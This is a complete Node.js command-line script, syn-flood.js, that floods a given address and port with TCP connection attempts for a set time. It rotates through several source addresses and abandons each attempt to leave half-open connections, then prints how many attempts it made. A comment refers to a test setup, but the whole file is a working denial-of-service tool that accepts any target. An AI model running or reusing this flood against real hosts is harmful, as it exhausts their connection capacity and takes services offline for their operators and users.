/**
 * SYNs without more: `node syn-flood.js ADDRESS PORT SECONDS SOURCE...` dials from the sources in turn and forgets each attempt at once. Where
 * nobody answers for the sources on the link (the test sees to that) the other end is left with half-open connections. Prints how many.
 */
import { connect } from 'node:net';

const [host, port, seconds, ...sources] = process.argv.slice(2);
/** Attempts at a time, and how long one lives, ms: the SYN has long left by then. */
const [BATCH, LIFE_MS] = [64, 20];
const end = Date.now() + Number(seconds) * 1000;
let dialled = 0;

function round() {
  const attempts = Array.from({ length: BATCH }, (_, index) => {
    const attempt = connect({ host, port: Number(port), localAddress: sources[(dialled + index) % sources.length] });
    attempt.on('error', () => undefined);
    return attempt;
  });
  dialled += BATCH;
  setTimeout(() => {
    for (const attempt of attempts) attempt.destroy();
  }, LIFE_MS);
  if (Date.now() < end) setTimeout(round, 2);
  else process.stdout.write(`${dialled}\n`);
}

round();
